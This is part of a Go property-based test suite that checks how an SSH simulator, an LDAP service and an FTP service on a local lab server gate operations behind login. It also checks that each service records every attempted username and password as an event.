	return lab.StartWithCapture(body, true)
}

// ---------------------------------------------------------------- ssh simulator

func checkSSH(c authCase) error {
	srv, cap, err := start("[service.ssh]\ntype=\"ssh-simulator\"\n" + c.credToml() + "\n[[port]]\nport=\"tcp/22\"\nservices=[\"ssh\"]\n")
	if err != nil {
		return fmt.Errorf("infra: %v", err)
	}
	defer srv.Stop()
	// one connection per maximal run of attempts with the same user (an SSH connection
	// authenticates one user; the password method is retried on it)
	i := 0
	connNo := 0
	for i < len(c.Steps) {
		user := c.Steps[i].User
		j := i
		var pws []string
		for j < len(c.Steps) && c.Steps[j].User == user {
			pws = append(pws, c.Steps[j].Pass)
			j++
		}
		connNo++
		ip, port := svc.NextClient()
		conn := srv.L.DialTCP(&net.TCPAddr{IP: svc.ServerIP, Port: 22}, &net.TCPAddr{IP: ip, Port: port})
		asked := 0
		cfg := &ssh.ClientConfig{
			User:            user,
			HostKeyCallback: ssh.InsecureIgnoreHostKey(),
			Timeout:         10 * time.Second,
			Auth: []ssh.AuthMethod{ssh.RetryableAuthMethod(ssh.PasswordCallback(func() (string, error) {
				if asked >= len(pws) {
					return "", fmt.Errorf("no more passwords")
				}
				asked++
				return pws[asked-1], nil
			}), len(pws))},
		}
		nc := conn.NetConn()
		cc, chans, reqs, err := ssh.NewClientConn(nc, "lab:22", cfg)
		success := err == nil
		if success {
			go ssh.DiscardRequests(reqs)
			go func() {
				for ch := range chans {
					ch.Reject(ssh.Prohibited, "")
				}
			}()
			cc.Close()
		}
		nc.Close()
		conn.WaitClosed(5 * time.Second)
		// reference: attempts are tried in order until one is accepted
		wantOK := false
		wantAsked := len(pws)
		for k, pw := range pws {
			if c.accepts(user, pw) {
				wantOK = true
				wantAsked = k + 1
				break
			}
		}
		if success != wantOK {
			return fmt.Errorf("ssh connection %d user %q passwords %q: authenticated=%v, credential set says %v (err=%v)", connNo, user, pws, success, wantOK, err)
		}
		if asked != wantAsked {
			return fmt.Errorf("ssh connection %d user %q: client was asked for %d passwords, expected %d (accepted too early or too late)", connNo, user, asked, wantAsked)
		}
		// events: one password-authentication event per attempt made, with user and password
		var evs []lab.Ev
		cap.WaitFor(3*time.Second, func(all []lab.Ev) bool {
			evs = nil
			for _, e := range lab.From(all, ip.String(), port) {
				if e.Str("type") == "password-authentication" {
					evs = append(evs, e)
				}
			}
			return len(evs) >= wantAsked
		})
		if len(evs) != wantAsked {
			return fmt.Errorf("ssh connection %d: %d password-authentication events for %d attempts", connNo, len(evs), wantAsked)
		}
		for k, e := range evs {
			if e.Str("ssh.username") != user || e.Str("ssh.password") != pws[k] {
				return fmt.Errorf("ssh attempt %d event carries user %q password %q, presented %q / %q", k, e.Str("ssh.username"), e.Str("ssh.password"), user, pws[k])
			}
			if e.SerErr != "" {
				return fmt.Errorf("event does not serialise: %s", e.SerErr)
			}
		}
		i = j
	}
	return nil
}

// ---------------------------------------------------------------- ldap

func ldapResultCodes(b []byte) []int {
	codes, _ := ldapReplies(b)
	return codes
}

// ldapReplies returns the result codes and the protocol-op tags of the replies
func ldapReplies(b []byte) ([]int, []byte) {
	// every reply is SEQUENCE{ msgid, [APPLICATION n]{ ENUMERATED code, ... } }
	var out []int
	var ops []byte
	for len(b) > 2 {
		if b[0] != 0x30 {
			return out, ops
		}
		l := int(b[1])
		hdr := 2
		if l&0x80 != 0 {
			k := l & 0x7f
			l = 0
			for i := 0; i < k && 2+i < len(b); i++ {
				l = l<<8 | int(b[2+i])
			}
			hdr = 2 + k
		}
		if hdr+l > len(b) {
			return out, ops
		}
		msg := b[hdr : hdr+l]
		// skip message id
		if len(msg) > 2 && msg[0] == 0x02 {
			p := 2 + int(msg[1])
			if p+4 < len(msg) {
				op := msg[p]
				body := msg[p+2:]
				if op&0x1f != 4 && len(body) >= 3 && body[0] == 0x0a { // not a search entry
					out = append(out, int(body[2]))
					ops = append(ops, op)
				}
			}
		}
		b = b[hdr+l:]
	}
	return out, ops
}

// own BER encoder for the bind requests that lack (part of) the credential
func berTLV(tag byte, content ...[]byte) []byte {
	var c []byte
	for _, x := range content {
		c = append(c, x...)
	}
	if len(c) < 128 {
		return append([]byte{tag, byte(len(c))}, c...)
	}
	return append([]byte{tag, 0x82, byte(len(c) >> 8), byte(len(c))}, c...)
}

func ldapOddBind(id int, form, dn, pw string) []byte {
	mid := berTLV(0x02, []byte{byte(id)})
	ver := berTLV(0x02, []byte{3})
	switch form {
	case "nodn":
		return berTLV(0x30, mid, berTLV(0x60, ver))
	case "noauth":
		return berTLV(0x30, mid, berTLV(0x60, ver, berTLV(0x04, []byte(dn))))
	default: // sasl: AuthenticationChoice [3] SaslCredentials{ mechanism, credentials }
		return berTLV(0x30, mid, berTLV(0x60, ver, berTLV(0x04, []byte(dn)), berTLV(0xa3, berTLV(0x04, []byte("PLAIN")), berTLV(0x04, []byte("\x00"+svc.LDAPUser(dn)+"\x00"+pw)))))
	}
}

func checkLDAP(c authCase) error {
	srv, cap, err := start("[service.ldap]\ntype=\"ldap\"\n" + c.credToml() + "\n[[port]]\nport=\"tcp/389\"\nservices=[\"ldap\"]\n")
	if err != nil {
		return fmt.Errorf("infra: %v", err)
	}
	defer srv.Stop()
	ip, port := svc.NextClient()
	conn := srv.L.DialTCP(&net.TCPAddr{IP: svc.ServerIP, Port: 389}, &net.TCPAddr{IP: ip, Port: port})
	loggedIn := false
	known := true // whether the reference knows the login state (an anonymous re-bind is not covered by the statement)
	id := 1
	var others []*lab.Conn
	defer func() {
		for _, o := range others {
			o.CloseWrite()
		}
	}()
	for si, st := range c.Steps {
		if st.Kind == "other" {
			// a bind on ANOTHER connection to the same service: judged by the same predicate,
			// and without effect on this connection's login state
			oip, oport := svc.NextClient()
			o := srv.L.DialTCP(&net.TCPAddr{IP: svc.ServerIP, Port: 389}, &net.TCPAddr{IP: oip, Port: oport})
			others = append(others, o)
			o.Send(svc.LDAPBind(1, st.DN, st.Pass))
			switch o.WaitIdle(30 * time.Second) {
			case lab.Closed:
				return fmt.Errorf("step %d (other connection): server closed the connection", si)
			case lab.Busy:
				return fmt.Errorf("inconclusive: no quiescence within 30s at step %d", si)
			}
			oc := ldapResultCodes(o.Output())
			if len(oc) != 1 {
				return fmt.Errorf("step %d (other connection): %d replies to one bind", si, len(oc))
			}
			user := svc.LDAPUser(st.DN)
			ok := c.accepts(user, st.Pass) || (user == "" && st.Pass == "")
			if ok != (oc[0] == 0) {
				return fmt.Errorf("step %d (other connection): bind as %q/%q answered with result %d, credential set %v says %v", si, user, st.Pass, oc[0], c.Set, ok)
			}
			continue
		}
		id++
		before := len(ldapResultCodes(conn.Output()))
		odd := st.Kind == "login" && st.PassForm != ""
		if st.Kind == "login" {
			if odd {
				conn.Send(ldapOddBind(id, st.PassForm, st.DN, st.Pass))
			} else {
				conn.Send(svc.LDAPBind(id, st.DN, st.Pass))
			}
		} else {
			switch st.User { // probe kind
			case "modify":
				conn.Send(svc.LDAPModify(id, "cn=x,dc=example"))
			case "add":
				conn.Send(svc.LDAPAdd(id, "cn=x,dc=example"))
			case "delete":
				conn.Send(svc.LDAPDelete(id, "cn=x,dc=example"))
			case "rename":
				conn.Send(svc.LDAPModifyDN(id, "cn=x,dc=example", "cn=y"))
			default:
				conn.Send(svc.LDAPCompare(id, "cn=x,dc=example", "cn", "x"))
			}
		}
		switch conn.WaitIdle(30 * time.Second) {
		case lab.Closed:
			if odd {
				// a bind request without a (simple) password may be answered by closing
				return ldapEvents(c, cap, ip, port, si+1)
			}
			return fmt.Errorf("step %d: server closed the connection", si)
		case lab.Busy:
			return fmt.Errorf("inconclusive: no quiescence within 30s at step %d", si)
		}
		codes, ops := ldapReplies(conn.Output())
		if odd {
			// a bind request that carries no simple password (no authentication element, no DN,
			// SASL): no user/password pair of the credential set was presented, so whatever the
			// service answers it must not be a successful bind response, and it is not a login
			if len(codes) > before+1 {
				return fmt.Errorf("step %d (%+v): %d replies to one request", si, st, len(codes)-before)
			}
			if len(codes) == before+1 && ops[before] == 0x61 && codes[before] == 0 {
				return fmt.Errorf("step %d: bind without a simple password (%s, dn %q) was answered with bindResponse success", si, st.PassForm, st.DN)
			}
			if loggedIn {
				known = false // whether a refused re-bind ends the earlier login is not covered by the statement
			}
			continue
		}
		if len(codes) != before+1 {
			return fmt.Errorf("step %d (%+v): %d replies, expected exactly one", si, st, len(codes)-before)
		}
		code := codes[len(codes)-1]
		if st.Kind == "login" {
			user := svc.LDAPUser(st.DN)
			anon := user == "" && st.Pass == ""
			ok := c.accepts(user, st.Pass)
			switch {
			case anon:
				// anonymous bind: allowed by the statement, not a login
				if code != 0 {
					return fmt.Errorf("step %d: anonymous bind answered with result %d", si, code)
				}
				if loggedIn {
					known = false
				}
			case ok:
				if code != 0 {
					return fmt.Errorf("step %d: bind as %q/%q is in the credential set %v but was refused (result %d)", si, user, st.Pass, c.Set, code)
				}
				// an empty user name with a password is a corner the statement does not
				// cover (the service keeps treating the connection as anonymous): only a
				// login with a user name lets the reference expect gated operations to pass
				if user != "" {
					loggedIn, known = true, true
				} else {
					known = false
				}
			default:
				if code == 0 {
					return fmt.Errorf("step %d: bind as %q/%q is NOT in the credential set %v but succeeded", si, user, st.Pass, c.Set)
				}
			}
		} else if known {
			if !loggedIn && code != 53 {
				return fmt.Errorf("step %d: %s before any successful login answered with result %d, want unwillingToPerform (53)", si, st.User, code)
			}
			if loggedIn && code != 0 {
				return fmt.Errorf("step %d: %s after a successful login answered with result %d, want success", si, st.User, code)
			}
		}
	}
	conn.CloseWrite()
	conn.WaitClosed(5 * time.Second)
	return ldapEvents(c, cap, ip, port, len(c.Steps))
}

// ldapEvents: every bind attempt among the first n steps has an event with the user as
// evaluated and the password presented. Bind requests without a simple password may or may
// not be recorded as bind events (the statement speaks of the password presented).
func ldapEvents(c authCase, cap *lab.Capture, ip net.IP, port int, n int) error {
	var want []attempt
	nOdd := 0
	for _, st := range c.Steps[:n] {
		if st.Kind != "login" {
			continue
		}
		if st.PassForm != "" {
			nOdd++
			continue
		}
		want = append(want, st)
	}
	var binds []lab.Ev
	cap.WaitFor(3*time.Second, func(all []lab.Ev) bool {
		binds = nil
		for _, e := range lab.From(all, ip.String(), port) {
			if e.Str("ldap.request-type") == "bind" {
				binds = append(binds, e)
			}
		}
		return len(binds) >= len(want)+nOdd
	})
	if len(binds) < len(want) || len(binds) > len(want)+nOdd {
		return fmt.Errorf("%d bind events for %d bind attempts (%d of them without a simple password)", len(binds), len(want)+nOdd, nOdd)
	}
	// the well-formed attempts, in order, are a subsequence of the bind events
	k := 0
	for _, e := range binds {
		if k < len(want) && e.Str("ldap.username") == svc.LDAPUser(want[k].DN) && e.Str("ldap.password") == want[k].Pass {
			k++
		}
		if e.SerErr != "" {
			return fmt.Errorf("event does not serialise: %s", e.SerErr)
		}
	}
	if k < len(want) {
		st := want[k]
		var got []string
		for _, e := range binds {
			got = append(got, fmt.Sprintf("%q/%q", e.Str("ldap.username"), e.Str("ldap.password")))
		}
		return fmt.Errorf("no bind event carries user %q password %q for the bind with dn %q (bind events in order: %v)", svc.LDAPUser(st.DN), st.Pass, st.DN, got)
	}
	return nil
}

// ---------------------------------------------------------------- ftp (fixed credential set anonymous:anonymous)

// slowCapture is an event channel that takes DelayMs per event before it records it in a
// lab.Capture - a stand-in for any channel that does I/O in Send. The server's event bus
// calls Send synchronously, so the service's event pump really is this slow.
type slowCapture struct {
	ID      string `toml:"id"`
	DelayMs int    `toml:"delay_ms"`
	cap     *lab.Capture
}

func (s *slowCapture) Send(e event.Event) {
	if s.DelayMs > 0 {
		time.Sleep(time.Duration(s.DelayMs) * time.Millisecond)
	}
	s.cap.Send(e)
}

var (
	slowMu   sync.Mutex
	slowCaps = map[string]*slowCapture{}
)

func init() {
	pushers.Register("c12-slow-capture", func(options ...func(pushers.Channel) error) (pushers.Channel, error) {
		s := &slowCapture{cap: lab.NewCapture()}
		for _, o := range options {
			o(s)
		}
		slowMu.Lock()
		slowCaps[s.ID] = s
		slowMu.Unlock()
		return s, nil
	})
}

// startFTP starts a server with the ftp service; delayMs > 0 selects the slow event channel.
func startFTP(delayMs int) (*svc.Instance, error) {
	if delayMs <= 0 {
		return svc.StartInstance([]string{"ftp"})
	}
	dir, err := lab.DataDir()
	if err != nil {
		return nil, err
	}
	fs := filepath.Join(dir, "ftpbase-"+lab.NextID())
	if err := os.MkdirAll(fs, 0755); err != nil {
		return nil, err
	}
	id := lab.NextID()
	toml := fmt.Sprintf("[listener]\ntype=\"verif-mem\"\nid=%q\n\n[channel.cap]\ntype=\"c12-slow-capture\"\nid=%q\ndelay_ms=%d\n\n[[filter]]\nchannel=[\"cap\"]\n\n%s",
		id, id+"-cap", delayMs, svc.Body(fs, []string{"ftp"}))
	srv, err := lab.Start(id, toml, true)
	if err != nil {
		return nil, err
	}
	slowMu.Lock()
	sc := slowCaps[id+"-cap"]
	delete(slowCaps, id+"-cap")
	slowMu.Unlock()
	if sc == nil {
		srv.Stop()
		return nil, fmt.Errorf("slow capture channel was not constructed")
	}
	return &svc.Instance{Srv: srv, Cap: sc.cap, FsBase: fs}, nil
}

func ftpCodes(out []byte) []string {
	var codes []string
	sc := bufio.NewScanner(bytes.NewReader(out))
	for sc.Scan() {
		l := sc.Text()
		if len(l) >= 4 && l[3] == ' ' {
			codes = append(codes, l[:3])
		}
	}
	return codes
}

// spell renders a command name in one of the spellings a case-insensitive name can have
func spell(verb, how string) string {
	switch how {
	case "lower":
		return strings.ToLower(verb)
	case "title":
		if verb == "" {
			return verb
		}
		return strings.ToUpper(verb[:1]) + strings.ToLower(verb[1:])
	case "alt":
		b := []byte(strings.ToLower(verb))
		for i := 1; i < len(b); i += 2 {
			b[i] = strings.ToUpper(string(b[i]))[0]
		}
		return string(b)
	}
	return verb
}

// ftpWire is what one step puts on the wire
type ftpWire struct {
	user    string // USER line, "" = not sent
	userArg string // the user name it presents
	pass    string // PASS line, "" = not sent
	passArg string // the password it presents
	probe   string // probe command line
	verb    string // canonical (upper-case) name of the probe command
	bare    bool   // the probe command was sent without its parameter
}

func ftpWireOf(st attempt) ftpWire {
	var w ftpWire
	if st.Kind == "login" {
		if st.UserForm != "skip" {
			u := spell("USER", st.Spell)
			switch st.UserForm {
			case "noarg":
				w.user = u
			case "space":
				w.user = u + " "
			default:
				w.user, w.userArg = u+" "+st.User, st.User
			}
		}
		if st.PassForm != "skip" {
			p := spell("PASS", st.PassSpell)
			switch st.PassForm {
			case "noarg":
				w.pass = p
			case "space":
				w.pass = p + " "
			case "spaces":
				w.pass = p + "    "
			default:
				w.pass, w.passArg = p+" "+st.Pass, st.Pass
			}
		}
		return w
	}
	w.verb = st.User
	rest := ""
	if i := strings.IndexByte(w.verb, ' '); i > 0 {
		w.verb, rest = st.User[:i], st.User[i:]
	}
	if st.PassForm == "noarg" && rest != "" {
		rest = "" // the gated command without its parameter
		w.bare = true
	}
	w.probe = spell(w.verb, st.Spell) + rest
	return w
}

// once logged in these wait for / open a data connection (bounded, seconds) and may answer
// twice: they are exercised by C09/C11; here they only probe the gate
var ftpDataVerbs = map[string]bool{"LIST": true, "NLST": true, "RETR": true, "STOR": true, "APPE": true, "PORT": true, "EPRT": true}

// MDTM for an existing path answers twice once logged in (213 then 450, services/ftp/cmd.go
// commandMdtm.Execute - a reply-conformance matter outside this property): a lock-step client
// attributes the extra line to MDTM, in a pipelined dialogue it would shift every later reply
var ftpTwiceVerbs = map[string]bool{"MDTM": true}

// passInSet: some user of the credential set has this password (the attempt could log in)
func (c authCase) passInSet(pass string) bool {
	for _, k := range c.Set {
		if k.Pass == pass {
			return true
		}
	}
	return c.Wildcard
}

// ftpPlan: the lines of every step of a pipelined dialogue. They must not depend on the
// replies, so data-connection commands (and MDTM) are left out from the first attempt on that
// could have logged in (lock-step dialogues leave them out once a login did succeed).
func ftpPlan(c authCase) [][]string {
	plan := make([][]string, len(c.Steps))
	may := false
	for i, st := range c.Steps {
		if st.Kind == "other" {
			continue
		}
		w := ftpWireOf(st)
		if st.Kind == "login" {
			if w.user != "" {
				plan[i] = append(plan[i], w.user)
			}
			if w.pass != "" {
				plan[i] = append(plan[i], w.pass)
				if c.passInSet(w.passArg) {
					may = true
				}
			}
		} else if !(may && (ftpDataVerbs[w.verb] || ftpTwiceVerbs[w.verb])) {
			plan[i] = append(plan[i], w.probe)
		}
	}
	return plan
}

func checkFTP(c authCase) error {
	in, err := startFTP(c.PushDelayMs)
	if err != nil {
		return fmt.Errorf("infra: %v", err)
	}
	defer in.Srv.Stop()
	sc := &svc.Script{Service: "ftp"}
	se := in.Open(sc)
	se.Conn.WaitIdle(30 * time.Second)
	loggedIn := false
	var lines []string
	mainConn := se.Conn
	var others []*lab.Conn
	defer func() {
		for _, o := range others {
			o.CloseWrite()
		}
	}()
	cur := se.Conn
	// pipelined client: the whole dialogue of this connection goes out in ONE write, the
	// replies are collected once the server has worked through it and are then judged in
	// order exactly as the lock-step replies are
	var plan [][]string
	var pre []string
	if c.Pipelined {
		plan = ftpPlan(c)
		var all []string
		for _, p := range plan {
			all = append(all, p...)
		}
		if len(all) > 0 {
			before := len(ftpCodes(cur.Output()))
			cur.Send([]byte(strings.Join(all, "\r\n") + "\r\n"))
			switch cur.WaitIdle(120 * time.Second) {
			case lab.Closed:
				return fmt.Errorf("server closed the connection during the pipelined dialogue %q", all)
			case lab.Busy:
				return fmt.Errorf("inconclusive: no quiescence within 120s after %d pipelined commands", len(all))
			}
			pre = ftpCodes(cur.Output())[before:]
			if len(pre) < len(all) {
				return fmt.Errorf("%d replies to %d pipelined commands %q (codes %v)", len(pre), len(all), all, pre)
			}
			if len(pre) > len(all) {
				// replies cannot be attributed to commands
				return fmt.Errorf("inconclusive: %d replies to %d pipelined commands", len(pre), len(all))
			}
		}
	}
	send := func(line string) (string, error) { // on the connection cur
		if c.Pipelined && cur == mainConn {
			if len(pre) == 0 {
				return "", fmt.Errorf("infra: pipelined plan and dialogue disagree at %q", line)
			}
			lines = append(lines, line)
			code := pre[0]
			pre = pre[1:]
			return code, nil
		}
		before := len(ftpCodes(cur.Output()))
		if cur == mainConn {
			lines = append(lines, line)
		}
		cur.Send([]byte(line + "\r\n"))
		switch cur.WaitIdle(30 * time.Second) {
		case lab.Closed:
			return "", fmt.Errorf("server closed the connection after %q", line)
		case lab.Busy:
			// the harness's own wait ran out (loaded machine): not a verdict
			return "", fmt.Errorf("inconclusive: no quiescence within 30s after %q", line)
		}
		codes := ftpCodes(cur.Output())
		if len(codes) < before+1 {
			return "", fmt.Errorf("%q: no reply", line)
		}
		return codes[before], nil
	}
	// pend: the user names the next PASS may be evaluated against. "" stands for "no user
	// presented". A USER command the service refuses (missing argument) may or may not leave
	// an earlier USER pending, and a failed or completed attempt may or may not clear it: the
	// statement is silent, so every candidate is allowed and only what holds for all of them
	// is required.
	pend := []string{""}
	addPend := func(u string) {
		for _, x := range pend {
			if x == u {
				return
			}
		}
		pend = append(pend, u)
	}
	for si, st := range c.Steps {
		if st.Kind == "other" {
			// a complete login attempt on ANOTHER connection to the same service: judged by the
			// same predicate, and without effect on this connection's gate
			o := in.Open(&svc.Script{Service: "ftp"})
			others = append(others, o.Conn)
			o.Conn.WaitIdle(30 * time.Second)
			cur = o.Conn
			code, err := send("USER " + st.User)
			if err == nil && code != "331" {
				err = fmt.Errorf("step %d (other connection): USER answered %s", si, code)
			}
			if err == nil {
				code, err = send("PASS " + st.Pass)
			}
			cur = mainConn
			if err != nil {
				return err
			}
			if ok := c.accepts(st.User, st.Pass); ok != (code == "230") {
				return fmt.Errorf("step %d (other connection): login %q/%q answered %s, credential set says %v", si, st.User, st.Pass, code, ok)
			}
			continue
		}
		w := ftpWireOf(st)
		if st.Kind == "login" {
			if w.user != "" {
				line, arg := w.user, w.userArg
				code, err := send(line)
				if err != nil {
					return err
				}
				if arg != "" {
					if code != "331" {
						return fmt.Errorf("step %d: %q answered %s", si, line, code)
					}
					pend = []string{arg}
				} else {
					// no user name presented: not a login whatever the reply is
					if code[0] == '2' {
						return fmt.Errorf("step %d: %q (no user name) answered %s", si, line, code)
					}
					if code[0] == '3' {
						pend = []string{""}
					} else {
						addPend("")
					}
				}
			}
			if w.pass == "" {
				continue
			}
			line, pass := w.pass, w.passArg
			code, err := send(line)
			if err != nil {
				return err
			}
			allowed, required := false, true
			var okUsers []string
			for _, u := range pend {
				if c.accepts(u, pass) {
					allowed = true
					okUsers = append(okUsers, u)
				} else {
					required = false
				}
			}
			if required && code != "230" {
				return fmt.Errorf("step %d: login %q/%q is in the credential set but answered %s", si, pend, pass, code)
			}
			if !allowed && code[0] == '2' {
				return fmt.Errorf("step %d: %q after user %q: the pair is NOT in the credential set but answered %s", si, line, pend, code)
			}
			if code[0] == '2' {
				loggedIn = true
				pend = append([]string{""}, okUsers...)
			} else {
				addPend("")
			}
		} else {
			if c.Pipelined {
				if len(plan[si]) == 0 {
					continue // left out of the pipelined dialogue (data-connection command, MDTM)
				}
			} else if loggedIn && ftpDataVerbs[w.verb] {
				continue
			}
			line := w.probe
			code, err := send(line)
			if err != nil {
				return err
			}
			addPend("") // whether a USER stays pending across another command is not covered by the statement
			if !loggedIn {
				if w.bare {
					// missing parameter: any refusal will do (553 or 530), but not an execution
					if code[0] != '5' {
						return fmt.Errorf("step %d: %q before any successful login answered %s, want a refusal", si, line, code)
					}
				} else if code != "530" {
					return fmt.Errorf("step %d: %q before any successful login answered %s, want 530", si, line, code)
				}
			}
			if loggedIn && code == "530" {
				return fmt.Errorf("step %d: %q after a successful login answered 530", si, line)
			}
		}
	}
	se.Conn.CloseWrite()
	se.Conn.WaitClosed(30 * time.Second)
	// every command of the connection (so every USER/PASS attempt) must reach the event
	// stream. The connection is over, the service only has to drain what it queued: wait
	// generously, and once that wait ran out keep waiting as long as events still arrive.
	var got []string
	pred := func(min int) func(all []lab.Ev) bool {
		return func(all []lab.Ev) bool {
			got = nil
			for _, e := range lab.From(all, sc.SrcIP.String(), sc.SrcPort) {
				if e.Has("ftp.command") {
					got = append(got, e.Str("ftp.command"))
				}
			}
			return len(got) >= min
		}
	}
	perEvent := time.Duration(c.PushDelayMs) * time.Millisecond
	if !in.Cap.WaitFor(20*time.Second+10*perEvent*time.Duration(len(lines)+4), pred(len(lines))) {
		for n := len(got); in.Cap.WaitFor(10*time.Second+100*perEvent, pred(n+1)) && len(got) < len(lines); n = len(got) {
		}
	}
	trim := func(x string) string { return strings.TrimRight(x, " ") }
	same := len(got) == len(lines)
	for i := 0; same && i < len(lines); i++ {
		same = trim(got[i]) == trim(lines[i])
	}
	if !same {
		// name the first command without its event
		k := 0
		for _, l := range lines {
			if k < len(got) && trim(got[k]) == trim(l) {
				k++
				continue
			}
			return fmt.Errorf("%d ftp.command events for %d commands sent: no event for %q (and %d later commands); every USER/PASS attempt must be recorded. events %q, sent %q", len(got), len(lines), l, len(lines)-k-1, got, lines)
		}
		return fmt.Errorf("ftp.command events %q, commands sent %q (every USER/PASS attempt must be recorded)", got, lines)
	}
	return nil
}

func check(c authCase) error {
	switch c.Service {
	case "ssh":
		return checkSSH(c)
	case "ldap":
		return checkLDAP(c)
	default:
		return checkFTP(c)
	}
}

var ftpProbes = []string{"PWD", "MKD probe", "RMD probe", "DELE probe", "CWD /", "CDUP", "LIST", "NLST", "SIZE probe", "MDTM probe", "RNFR probe", "PASV", "TYPE I", "SYST",
	"RETR probe", "STOR probe", "APPE probe", "RNTO probe", "REST 0", "MODE S", "STRU F", "EPSV", "PORT 10,0,0,1,4,1", "EPRT |1|10.0.0.1|1025|"}

func genSet(t *rapid.T, allowEmptyUser bool) []cred {
	n := rapid.IntRange(0, 3).Draw(t, "setsize")
	var out []cred
	for i := 0; i < n; i++ {
		u := rapid.SampledFrom(users).Draw(t, "cu")
		p := rapid.SampledFrom(passes).Draw(t, "cp")
		out = append(out, cred{u, p})
	}
	return out
}

func nontrivial(c authCase) bool {
	// a failing attempt followed by another attempt, or a gated probe before a success
	failed := false
	success := false
	for _, s := range c.Steps {
		if s.Kind == "other" {
			continue
		}
		if s.Kind == "login" {
			u, pw := s.User, s.Pass
			if c.Service == "ldap" {
				u = svc.LDAPUser(s.DN)
			}
			if s.PassForm == "skip" {
				continue // ftp: USER only, no attempt completed
			}
			if s.UserForm != "" {
				u = ""
			}
			if failed {
				return true
			}
			if s.PassForm != "" {
				pw = ""
			}
			if s.PassForm == "" && s.UserForm == "" && c.accepts(u, pw) {
				success = true
			} else {
				failed = true
			}
		} else if !success {
			return true
		}
	}
	return false
}

func TestAuth(t *testing.T) {
	r := vlib.Open(prop)
	var ac authCase
	if vlib.ReplayCase("TestAuth", &ac) {
		if err := check(ac); err != nil {
			r.Violation(t, "TestAuth", ac, err.Error())
		}
		return
	}
	r.Rule("credential sets of size 0..3 over users {root,admin,guest,''} x passwords {root,admin,123456,''} (+ wildcard for the ssh simulator, the only service that defines one) configured through TOML on a fresh server; attempt sequences of length 1..4 on one connection (ssh: per user; ldap: DN forms cn=U,dc=.. / U / anonymous, plus bind requests without authentication element / without DN / with SASL instead of a simple password; ftp: fixed set anonymous:anonymous, user and password each from configured / not configured / empty argument (USER, USER<sp>, PASS, PASS<sp>..) / command not sent, so also PASS without USER, USER without PASS and probes between them; every command name spelled UPPER / lower / Title / aLtErNaTiNg; schedule lock-step with 1..6 steps or pipelined = 12..36 steps (about 20..60 commands) in one write with the replies judged afterwards; event channel instant or taking 1..20 ms per event) with gated-operation probes (ftp: also without their parameter) before and after each attempt; ldap and ftp: attempts on further connections to the same service interleaved (no effect on this connection's gate); oracle = reference predicate pair-in-set, per-attempt auth events with evaluated user and presented password, gated ops refused (ldap 53 / ftp 530, any 5xx when the parameter is missing) until a login succeeded on this connection; non-trivial = failing attempt followed by another attempt, or a probe before a success")
	r.Rapid(t, "TestAuth", r.Pick(1200, 25000), func(rt *rapid.T) {
		c := authCase{Service: rapid.SampledFrom([]string{"ssh", "ldap", "ldap", "ftp"}).Draw(rt, "service")}
		if only := os.Getenv("C12_ONLY"); only != "" {
			c.Service = only
		}
		switch c.Service {
		case "ssh":
			c.Set = genSet(rt, true)
			c.Wildcard = rapid.IntRange(0, 5).Draw(rt, "wildcard") == 0
			n := rapid.IntRange(1, 4).Draw(rt, "nattempts")
			for i := 0; i < n; i++ {
				c.Steps = append(c.Steps, attempt{Kind: "login", User: rapid.SampledFrom(users).Draw(rt, "u"), Pass: rapid.SampledFrom(passes).Draw(rt, "p")})
			}
		case "ldap":
			c.Set = genSet(rt, true)
			n := rapid.IntRange(1, 6).Draw(rt, "nsteps")
			for i := 0; i < n; i++ {
				if rapid.IntRange(0, 2).Draw(rt, "probe") == 0 {
					c.Steps = append(c.Steps, attempt{Kind: "probe", User: rapid.SampledFrom([]string{"modify", "add", "delete", "rename", "compare"}).Draw(rt, "op")})
					continue
				}
				u := rapid.SampledFrom(users).Draw(rt, "u")
				dn := u
				if u != "" {
					dn = rapid.SampledFrom([]string{"cn=%s,dc=example,dc=com", "%s", "cn=%s", "sn=%s,ou=x", "%s,dc=example"}).Draw(rt, "dnform")
					dn = fmt.Sprintf(dn, u)
				}
				st := attempt{Kind: "login", User: u, DN: dn, Pass: rapid.SampledFrom(passes).Draw(rt, "p")}
				// the attempt may be made on another connection to the same service
				if rapid.IntRange(0, 5).Draw(rt, "otherconn") == 0 {
					st.Kind = "other"
					c.Steps = append(c.Steps, st)
					continue
				}
				// the credential may also be (partly) missing from the request
				if rapid.IntRange(0, 5).Draw(rt, "oddbind") == 0 {
					st.PassForm = rapid.SampledFrom([]string{"noauth", "nodn", "sasl"}).Draw(rt, "bindform")
					if st.PassForm == "nodn" {
						st.User, st.DN, st.Pass = "", "", ""
					} else if st.PassForm == "noauth" {
						st.Pass = ""
					}
				}
				c.Steps = append(c.Steps, st)
			}
		default:
			c.Set = []cred{{"anonymous", "anonymous"}}
			// schedule: lock-step (one command outstanding) or pipelined (the whole dialogue in one
			// write, 20..60 commands); event channel instant or taking some ms per event
			lo, hi := 1, 6
			if rapid.IntRange(0, 5).Draw(rt, "pipelined") == 0 {
				c.Pipelined = true
				lo, hi = 12, 36
				c.PushDelayMs = rapid.SampledFrom([]int{0, 1, 5, 20}).Draw(rt, "pushdelay")
			} else {
				c.PushDelayMs = rapid.SampledFrom([]int{0, 0, 0, 0, 1, 5}).Draw(rt, "pushdelay")
			}
			// command names are case-insensitive: every command is sent in one of the spellings
			spellings := []string{"", "", "lower", "title", "alt"}
			n := rapid.IntRange(lo, hi).Draw(rt, "nsteps")
			for i := 0; i < n; i++ {
				if rapid.IntRange(0, 2).Draw(rt, "probe") == 0 {
					st := attempt{Kind: "probe", User: rapid.SampledFrom(ftpProbes).Draw(rt, "op"), Spell: rapid.SampledFrom(spellings).Draw(rt, "spell")}
					// the gated command without its parameter
					if strings.Contains(st.User, " ") && rapid.IntRange(0, 3).Draw(rt, "noparam") == 0 {
						st.PassForm = "noarg"
					}
					c.Steps = append(c.Steps, st)
					continue
				}
				// a complete attempt on another connection to the same service
				if !c.Pipelined && rapid.IntRange(0, 5).Draw(rt, "otherconn") == 0 {
					c.Steps = append(c.Steps, attempt{Kind: "other", User: rapid.SampledFrom([]string{"anonymous", "anonymous", "root"}).Draw(rt, "ou"), Pass: rapid.SampledFrom([]string{"anonymous", "anonymous", "root"}).Draw(rt, "op")})
					continue
				}
				// user and password each drawn from configured / not configured / empty (in the
				// spellings an empty argument can have) / command not sent at all
				st := attempt{Kind: "login", User: rapid.SampledFrom([]string{"anonymous", "anonymous", "root", "admin", "ftp", "ghost", "Anonymous", ""}).Draw(rt, "u"), Pass: rapid.SampledFrom([]string{"anonymous", "anonymous", "root", "x@y", "ftp", "", ""}).Draw(rt, "p")}
				if st.User == "" {
